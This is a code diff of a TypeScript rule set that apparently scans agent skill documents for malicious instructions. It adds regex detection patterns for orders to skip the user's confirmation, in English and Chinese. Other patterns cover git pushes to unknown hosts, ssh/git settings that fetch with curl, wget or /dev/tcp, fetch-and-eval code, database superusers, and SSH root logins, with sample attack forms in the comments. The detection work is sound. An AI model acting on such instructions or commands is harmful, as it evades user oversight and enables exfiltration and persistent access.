-    pattern: /(?:不需要|无需|无须|不必|不用|不要|别)(?:再次|再|)(?:向|跟|和|与|找)(?:用户|使用者)(?:再次|再|)(?:征求|询问|请求|征询|)(?:的|)(?:确认|同意|许可|批准|审批)|(?:不需要|无需|无须|不必|不用)再(?:次|)(?:征得|经过|获得|)(?:用户|使用者)(?:的|)(?:确认|同意|许可|批准|审批)|\bno need to (?:ask|check with|confirm with|consult) (?:the user|anyone)\b|\b(?:do not|don'?t|never) (?:ask|prompt|wait for) (?:the user |)(?:for (?:the user's |their |)(?:confirmation|approval|permission)|to confirm|before (?:running|executing|proceeding|deleting|dropping)|again)\b/i,
+    pattern: /(?:不需要|无需|无须|不必|不用|不要|别)(?:再次|再|)(?:向|跟|和|与|找)(?:用户|使用者)(?:再次|再|)(?:征求|询问|请求|征询|)(?:的|)(?:确认|同意|许可|批准|审批)|(?:不需要|无需|无须|不必|不用)再(?:次|)(?:征得|经过|获得|)(?:用户|使用者)(?:的|)(?:确认|同意|许可|批准|审批)|\bno need to (?:ask|check with|confirm with|consult) (?:the user|anyone)\b|\b(?:do not|don'?t|never) (?:ask|prompt|wait for) (?:the user |)(?:for (?:the user's |their |)(?:confirmation|approval|permission)|to confirm|before (?:running|executing|proceeding|deleting|dropping)|again)\b|\b(?:skip|bypass|omit|suppress|avoid|auto-accept|auto-approve) (?:the |any |all |)(?:user's |user |human |operator )(?:confirmations?|approvals?|permissions?|consent|review|prompts?|checks?)\b|\bno need (?:for|to get|to obtain|to wait for|to request) (?:the user's |user |their |any user |explicit user )(?:confirmation|approval|permission|consent|sign-off)\b|\b(?:confirmation|approval|permission|consent) (?:from|of|by) the user (?:is not|isn't|is never|are not|aren't) (?:needed|required|necessary)\b|\bassume (?:the user|they) (?:has |have |already |)(?:approved|agreed|consented|confirmed|approves|agrees|consents)\b|\b(?:does not|doesn't|do not|don't|won't|will not) (?:need|require) (?:a |an |any |)(?:separate |further |extra |additional |explicit |new |user |)(?:confirmation|approval|sign-off|go-ahead)\b|\btreat (?:every|each|all|any) (?:permission|approval|confirmation) (?:prompts?|requests?|dialogs?|checks?) as (?:already |)(?:granted|approved|accepted|given|confirmed)\b|(?:不需要|无需|无须|不必|不用|不要|别)(?:再次|再|)(?:问|询问|请示)(?:一下|)(?:用户|使用者|我)|(?:用户|使用者|User|The user)\s{0,2}[（(]\s{0,2}(?:已确认|已批准|已同意|confirmed|approved)\s{0,2}[）)]\s{0,2}[:：]|(?:跳过|绕过|省略)(?:用户|使用者)(?:的|)(?:确认|同意|审批|批准|许可)/i,
+    // Doing a step "without asking the user" or "without user approval" is autonomy (documents.test.ts, the
+    // corpus; "未经用户同意，不得…" forbids): only an order to skip or waive the user's check is the tell.
+    // ("NEVER wait for confirmation" in an autonomous-mode skill is that autonomy too.) A phrase inside quotation
+    // marks ("“无需询问用户”之类的指令") is named, not given.
+    confirm: (m, unit) => !inQuotes(m, unit),
     reason: "tells the agent to act without the user's confirmation",
   },
   {
@@ -384,6 +606,45 @@ export const SESSION6_DOC_RULES: readonly DocRule[] = [
     // Every branch and tag (`--mirror`, `--all`) to such an address: the whole repository, critical.
     confirm: (_m, unit) => (/\bgit\s{1,3}push\b[^\n]{0,60}--(?:mirror|all)\b/.test(unit) ? 'critical' : true),
     reason: "sends or pushes to an address built from the user's or the machine's name on a host that is not a code host: a collection server tells its victims apart that way",
+  },
+  {
+    id: 'exfil-push-to-unknown-host',
+    category: 'exfiltration',
+    severity: 'high',
+    units: ['block', 'decoded', 'command', 'sentence'],
+    // Session 7: the repository pushed to a remote the skill adds, on a host that is no code host: the
+    // code (and its history, every secret ever committed) goes to whoever holds that host. A company's own
+    // git server looks the same, so it is withheld, not refused.
+    pattern: /\bgit\s{1,3}remote\s{1,3}(?:add|set-url)\s{1,3}(?:--push\s{1,3}|)[\w.-]{1,40}\s{1,3}["']?(?:https?:\/\/|ssh:\/\/|git@)/,
+    requires: /\bgit\s{1,3}push\b/,
+    detail: (_m, unit) => {
+      const hosts = pushRemoteHosts(unit)
+      return hosts.length ? `to ${hosts.join(', ')}` : undefined
+    },
+    reason: 'pushes the repository to a remote it adds on a host that is not a code host: the code and its whole history leave for whoever holds that host',
+  },
+  {
+    id: 'persist-config-command-fetch',
+    category: 'persistence',
+    severity: 'high',
+    units: ['block', 'command', 'decoded'],
+    // Session 7: a setting whose value is a command the tool runs on every use (ssh's ProxyCommand and
+    // LocalCommand, git's sshCommand / fsmonitor / pager, the shell's PROMPT_COMMAND, npm's script-shell)
+    // made to fetch from the network or open a shell: it runs again at every connection, commit or prompt.
+    // (`ProxyCommand nc -X 5 -x proxy:1080 %h %p` is how a proxy is used: nc alone is not matched.)
+    pattern: /\b(?:ProxyCommand|LocalCommand|sshCommand|fsmonitor|PROMPT_COMMAND|script-shell|core\.pager)\b[^\n]{0,200}(?:\b(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b|\/dev\/tcp\/)/i,
+    confirm: (m, unit) => !notDone(m, unit),
+    reason: 'sets a command the tool runs on every use (ssh ProxyCommand, git sshCommand/fsmonitor, PROMPT_COMMAND …) to fetch from the network: it runs again at every connection or prompt',
+  },
+  {
+    id: 'exec-fetch-eval',
+    category: 'supply-chain',
+    severity: 'high',
+    units: ['command', 'block', 'decoded'],
+    // Session 7: a script's own download-and-run, the code form of `curl | sh`: `https.get(url, … eval(d))`,
+    // `fetch(url).then(r => r.text()).then(eval)`, `exec(urlopen(url).read())`, `exec(requests.get(url).text)`.
+    pattern: /(?:\bhttps?\.get|\brequire\(\s{0,2}["']https?["']\s{0,2}\)\.get|\bfetch|\burlopen|\brequests\.get|\bhttpx\.get|\baxios\.get)\s{0,2}\(\s{0,2}["'`]https?:\/\/(?!localhost\b|127\.)[^\n]{0,300}(?:\beval\s{0,2}\(|\bthen\s{0,2}\(\s{0,2}eval\s{0,2}\)|\bnew\s{1,3}Function\s{0,2}\(|\bvm\.runIn\w{1,20}\s{0,2}\()|\b(?:eval|exec)\s{0,2}\(\s{0,2}(?:urllib\.request\.|)(?:urlopen|requests\.get|httpx\.get)\s{0,2}\(\s{0,2}["']https?:\/\/(?!localhost\b|127\.)/,
+    reason: 'downloads code and runs it in the same line (eval / exec / new Function of what a URL returns): whatever that host serves runs unseen, the code form of curl | sh',
   },
   {
     id: 'destr-shared-history-rewind',
@@ -423,7 +684,8 @@ export const SESSION6_DOC_RULES: readonly DocRule[] = [
     units: ['command', 'decoded', 'sentence', 'block'],
     // A database account with every privilege on every database, reachable from any host, able to grant
     // more: a standing way in for whoever knows its password (the skill wrote it down).
-    pattern: /\bGRANT\s{1,3}ALL(?:\s{1,3}PRIVILEGES|)\s{1,3}ON\s{1,3}\*\.\*\s{1,3}TO\s{1,3}["'`]?[\w.-]{1,40}["'`]?@["'`]%["'`][^\n;]{0,60}\bWITH\s{1,3}GRANT\s{1,3}OPTION\b/i,
+    // A user named without a host is `'user'@'%'` (MySQL's default): any host as well.
+    pattern: /\bGRANT\s{1,3}ALL(?:\s{1,3}PRIVILEGES|)\s{1,3}ON\s{1,3}\*\.\*\s{1,3}TO\s{1,3}["'`]?[\w.-]{1,40}["'`]?(?:@["'`]%["'`]|(?![\w.-]|["'`]?\s{0,3}@))[^\n;]{0,60}\bWITH\s{1,3}GRANT\s{1,3}OPTION\b/i,
     // A throwaway container's database (`docker exec … mysql …`) is the developer's own; a negated mention is a warning.
     confirm: (m, unit) => !notDone(m, unit) && !/\b(?:docker|podman)\s{1,3}(?:exec|run|compose)\b/.test(lineOf(m, unit)),
     reason: 'creates a database superuser reachable from any host (ALL ON *.* TO …@\'%\'): a standing remote way in',
@@ -461,14 +723,21 @@ export const SESSION6_DOC_RULES: readonly DocRule[] = [
     units: ['command', 'block', 'decoded'],
     // SSH opened to root or to passwords, or an account given a password written in the skill: anyone who
     // reads the skill can log in. Hardening guides set these to `no`, which is not matched.
-    pattern: /\bPermitRootLogin\s{1,3}yes\b|\bPasswordAuthentication\s{1,3}yes\b|\bPermitEmptyPasswords\s{1,3}yes\b|\becho\s{1,3}["']?[\w.-]{1,32}:[^\s"'$<>]{4,64}["']?\s{0,3}\|\s{0,3}(?:sudo\s{1,3}|)chpasswd\b/,
+    // sshd reads its keywords in any case (`permitrootlogin YES`); a password hash handed to usermod or a
+    // password piped to `passwd --stdin` is a password written in the skill too.
+    pattern: /\bPermitRootLogin\s{1,3}yes\b|\bPasswordAuthentication\s{1,3}yes\b|\bPermitEmptyPasswords\s{1,3}yes\b|\becho\s{1,3}["']?[\w.-]{1,32}:[^\s"'$<>]{4,64}["']?\s{0,3}\|\s{0,3}(?:sudo\s{1,3}|)chpasswd\b|\busermod\b[^\n|;]{0,60}\s(?:-p|--password)\s{1,3}["']?[^\s"'$<>-][^\s"'<>]{3,200}|\becho\s{1,3}["']?[^\s"'$<>|]{4,64}["']?\s{0,3}\|\s{0,3}(?:sudo\s{1,3}|)passwd\s{1,3}--stdin\b/i,
     // Opening root or password login and setting a password the skill wrote down: refused.
     // In `sed 's/A/B/'` only B is written: a hardening guide's `s/PasswordAuthentication yes/… no/` opens nothing.
+    // Every occurrence is read (red-team: only the first was, so a hardening `sed` line above hid a real one).
     confirm: (m, unit) => {
-      const at = unit.indexOf(m)
-      const before = at < 0 ? '' : unit.slice(Math.max(0, at - 8), at)
-      if (/s\/[\^#\\?]{0,4}$/.test(before) || notDone(m, unit)) return false
-      return /\b(?:PermitRootLogin|PasswordAuthentication)\s{1,3}yes\b/.test(unit) && /\bchpasswd\b|\bpasswd\b/.test(unit) ? 'critical' : true
+      let done = false
+      for (let at = unit.indexOf(m); at >= 0 && !done; at = unit.indexOf(m, at + 1)) {
+        const before = unit.slice(Math.max(0, at - 8), at)
+        if (/s\/[\^#\\?]{0,4}$/.test(before) || notDoneAt(m, unit, at)) continue
+        done = true
+      }
+      if (!done) return false
+      return /\b(?:PermitRootLogin|PasswordAuthentication)\s{1,3}yes\b/i.test(unit) && /\bchpasswd\b|\bpasswd\b|\busermod\b[^\n]{0,60}\s(?:-p|--password)\s/i.test(unit) ? 'critical' : true
     },
     reason: 'opens SSH to root or password logins, or sets an account password written in the skill: a standing way in for anyone who reads it',
   },
@@ -488,9 +757,9 @@ export const SESSION6_DOC_RULES: readonly DocRule[] = [
       const end = unit.indexOf('\n', at)
       const line = unit.slice(start, end < 0 ? unit.length : end)
       // Code: a URL string joined with the encoder's result (`"https://x/?q=" + base64.b64encode(out)`) in a request call.
-      if (/\b(?:urlopen|requests\.get|httpx\.get|Request|fetch|axios\.get|http\.get|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b/.test(line) && /https?:\/\/(?!localhost\b|127\.)[\w-]{1,63}\.[\w.-]{2,200}[^"'`\n]{0,200}["'`]\s{0,2}\+\s{0,2}(?:base64\.(?:urlsafe_|)b64encode|btoa|Buffer\.from|binascii\.hexlify|\w{1,20}\.hex\(\)|encodeURIComponent\(\s{0,2}btoa)/.test(line)) return true
+      if (/\b(?:urlopen|requests\.get|httpx\.get|Request|fetch|axios\.get|http\.get|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b/.test(line) && urlJoinedWithEncoder(line)) return true
       // Shell: the encoder runs inside a substitution that sits in the URL (`curl "https://x/p?d=$(… | base64)"`).
-      return /\b(?:curl|wget)\b/.test(line) && /https?:\/\/(?!localhost\b|127\.)[\w-]{1,63}\.[\w.-]{2,200}[^\s"']{0,200}\$\([^)\n]{1,200}\|\s{0,3}(?:base64|xxd|od|basenc)\b/.test(line)
+      return /\b(?:curl|wget)\b/.test(line) && urlHoldsEncodedSubstitution(line)
     },
     reason: 'builds a request address from data encoded on the spot (base64, hex): the data leaves in the URL, hidden from whoever reads the command',
   },
